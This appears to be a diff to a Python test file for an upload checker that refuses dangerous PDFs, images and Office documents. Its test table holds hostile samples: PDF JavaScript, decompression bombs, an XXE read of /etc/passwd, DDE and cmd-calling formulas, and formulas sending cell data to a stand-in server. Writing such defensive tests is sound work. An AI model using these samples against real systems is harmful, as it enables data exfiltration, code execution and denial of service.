@@ -2,16 +2,21 @@
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import hashlib
 import io
 import json
+import struct
 import zipfile
+import zlib
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
 from docx import Document
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from papers_made import SHOPS
 from test_report_commands import rasoat
 
@@ -19,6 +24,7 @@ from checker.leads.outcome import VisitOutcome
 from checker.leads.store import Store
 from papers.handed_in import harmless
 from papers.opened import Refused
+from roof.documents import plain
 from rules.load import load
 
 NOW = datetime.now(UTC)
@@ -100,31 +106,133 @@ def test_from_application_to_certificate_and_warning(tmp_path: Path) -> None:
     )
 
 
-def bomb() -> bytes:
+def zipped(**parts: bytes) -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("xl/workbook.xml", b"<x>" + b" " * 60_000_000)
+        for name, body in parts.items():
+            archive.writestr(name.replace("__", "/"), body)
     return out.getvalue()
+
+
+def sheet(cell: str, **more: bytes) -> bytes:
+    body = f"<worksheet><sheetData><row><c>{cell}</c></row></sheetData></worksheet>".encode()
+    return zipped(**{"xl__workbook.xml": b"<workbook/>", "xl__worksheets__sheet1.xml": body, **more})
+
+
+def letter(field: str, **more: bytes) -> bytes:
+    return zipped(**{"word__document.xml": f"<w:document>{field}</w:document>".encode(), **more})
+
+
+def pdf(objects: bytes, head: bytes = b"/Filter /FlateDecode") -> bytes:
+    packed = zlib.compress(objects)
+    return b"%PDF-1.7\n1 0 obj <</Type /ObjStm " + head + b">> stream\n" + packed + b"\nendstream endobj"
+
+
+SCRIPT = b"<</S /JavaScript /JS (app.alert(1))>>"
+HARMFUL = {
+    "program": ("a.exe", b"MZ"),
+    "no pdf": ("a.pdf", b"MZ"),
+    "script": ("a.pdf", b"%PDF-1.7 /OpenAction " + SCRIPT),
+    "script spelt out": ("a.pdf", b"%PDF-1.7 <</S /J#61vaScript>>"),
+    "script packed away": ("a.pdf", pdf(SCRIPT)),
+    "script behind a false stream": ("a.pdf", b"%PDF-1.7\n% stream\n" + pdf(SCRIPT)),
+    "objects packed otherwise": ("a.pdf", pdf(b"<<>>", b"/Filter [/ASCIIHexDecode /FlateDecode]")),
+    "objects cut off": ("a.pdf", pdf(b"<<>>" * 9)[:-22] + b"\nendstream"),
+    "pdf bomb": ("a.pdf", pdf(b" " * 41_000_000)),
+    "encrypted": ("a.pdf", b"%PDF-1.7 trailer <</Encrypt 5 0 R>>"),
+    "no png": ("a.png", b"%PDF-"),
+    "picture bomb": ("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 60_000, 60_000)),
+    "no docx": ("a.docx", b"PK"),
+    "zip bomb": ("a.xlsx", zipped(xl__workbook=b"", **{"xl__workbook.xml": b"<x>" + b" " * 60_000_000})),
+    "xxe": ("a.xlsx", sheet("", **{"xl__s.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'})),
+    "formula that calls a program": ("a.xlsx", sheet("<f>cmd|&apos;/C calc&apos;!A0</f>")),
+    "formula that calls a server": ("a.xlsx", sheet('<f>_xlfn.WEBSERVICE("http://e/"&amp;A1)</f>')),
+    "formula that leads away": ("a.xlsx", sheet('<x:f>HYPERLINK("http://e/?"&amp;A1,"Xem")</x:f>')),
+    "formula as text": (
+        "a.xlsx",
+        sheet("", **{"xl__sharedStrings.xml": b"<si><t>=cmd|'/C calc'!A0</t></si>"}),
+    ),
+    "formula in utf-16": ("a.xlsx", sheet("", **{"xl__s.xml": "<f>cmd|'/C calc'!A0</f>".encode("utf-16")})),
+    "asks another program": ("a.xlsx", sheet("", **{"xl__externalLinks__externalLink1.xml": b"<ddeLink/>"})),
+    "old macros": ("a.xlsx", sheet("", **{"xl__macrosheets__sheet1.xml": b"<x/>"})),
+    "field that runs": (
+        "a.docx",
+        letter("<w:instrText>DDEAU</w:instrText><w:instrText>TO c:\\\\cmd.exe</w:instrText>"),
+    ),
+    "field that fetches": ("a.docx", letter('<w:fldSimple w:instr="INCLUDETEXT &quot;http://e/x&quot;"/>')),
+    "object in it": (
+        "a.docx",
+        letter("", word__embeddings__oleObject1_bin=b"", **{"word__activeX__a.xml": b""}),
+    ),
+    "too large": ("a.jpg", b"\xff\xd8\xff" + b"0" * 20_000_000),
+    "no name": ("noname", b""),
+}
+
+
+@pytest.mark.parametrize("what", HARMFUL)
+def test_a_harmful_paper_is_not_taken(what: str) -> None:
+    name, data = HARMFUL[what]
+    with pytest.raises(Refused) as refused:
+        harmless(data, name)
+    assert refused.value.vi.startswith(name) and refused.value.vi != refused.value.en
+
+
+def test_a_plain_paper_is_taken() -> None:
+    assert harmless(b"%PDF-1.7\n/Type /Page", "a.PDF") == ".pdf"
+    assert harmless(pdf(b"<</Type /Page /Names [(JavaScript)]>>"), "a.pdf") == ".pdf"
+    assert harmless(b"\xff\xd8\xff\xe0", "b.jpeg") == ".jpeg"
+    assert harmless(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 4_960, 7_016), "c.png") == ".png"
+    plain = sheet('<f>SUM(A1:A9)&amp;"a|b!"</f>', **{"xl__sharedStrings.xml": b"<si><t>- 0901 | A!</t></si>"})
+    assert harmless(plain, "d.xlsx") == ".xlsx"
+    assert harmless(letter('<w:fldSimple w:instr="PAGE"/><w:t>DDE</w:t>'), "e.docx") == ".docx"
 
 
 @pytest.mark.parametrize(
     ("name", "data"),
     [
-        ("a.exe", b"MZ"),
-        ("a.pdf", b"MZ"),
-        ("a.pdf", b"%PDF-1.7 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
-        ("a.png", b"%PDF-"),
-        ("a.docx", b"PK"),
-        ("a.xlsx", bomb()),
-        ("a.jpg", b"\xff\xd8\xff" + b"0" * 20_000_000),
-        ("noname", b""),
+        ("a.xlsx", sheet("", **{"xl__s.xml": b"<t " * 1_000_000})),
+        ("a.xlsx", sheet("", **{"xl__s.xml": b"<si><t>=" + b"a|" * 1_000_000 + b"</t></si>"})),
+        ("a.xlsx", sheet("<f>" + "a|" * 1_000_000 + "</f>")),
+        ("a.docx", letter("<w:instrText " * 200_000)),
+        ("a.docx", letter('<w:x instr="' + "INCLUDETEXT  " * 200_000 + '"/>')),
+        ("a.pdf", b"%PDF-1.7 " + b"stream\n" * 2_000_000),
+        ("a.pdf", b"%PDF-1.7 " + b"obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" * 200_000),
     ],
+    ids=["tags", "text", "formula", "fields", "field", "streams", "packed"],
 )
-def test_a_harmful_paper_is_not_taken(name: str, data: bytes) -> None:
-    with pytest.raises(Refused):
+def test_a_paper_made_to_take_long_does_not(name: str, data: bytes) -> None:
+    """Each of these would go on for hours where one pass over the paper is made for each of its signs."""
+    if data.startswith(b"PK"):  # packed, it would be refused for what it unpacks to
+        out = io.BytesIO()
+        with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
+            for part in old.namelist():
+                new.writestr(part, old.read(part))
+        data = out.getvalue()
+    with contextlib.suppress(Refused):
         harmless(data, name)
 
 
-def test_a_plain_paper_is_taken() -> None:
-    assert harmless(b"%PDF-1.7\n/Type /Page", "a.PDF") == ".pdf"
-    assert harmless(b"\xff\xd8\xff\xe0", "b.jpeg") == ".jpeg"
+@given(st.binary(max_size=300))
+@settings(max_examples=150, deadline=None)
+def test_bytes_are_refused_or_taken_and_nothing_else(data: bytes) -> None:
+    for start, name in (
+        (b"%PDF-1.7 /ObjStm stream\n", "a.pdf"),
+        (b"\x89PNG\r\n\x1a\n", "a.png"),
+        (b"PK", "a.xlsx"),
+    ):
+        with contextlib.suppress(Refused):
+            harmless(start + data, name)
+
+
+@pytest.mark.parametrize(
+    ("typed", "kept"),
+    [
+        ("../../etc/giấy.pdf", "giấy.pdf"),
+        ("C:\\x\\giấy.pdf", "giấy.pdf"),
+        ("giấy\u202efdp.exe", "giấyfdp.exe"),
+        ("a\0b\n.pdf", "ab.pdf"),
+        ("x" * 900 + ".pdf", "x" * 200 + ".pdf"),
+    ],
+)
+def test_a_name_is_kept_without_what_cannot_be_seen(typed: str, kept: str) -> None:
+    assert plain(typed) == kept
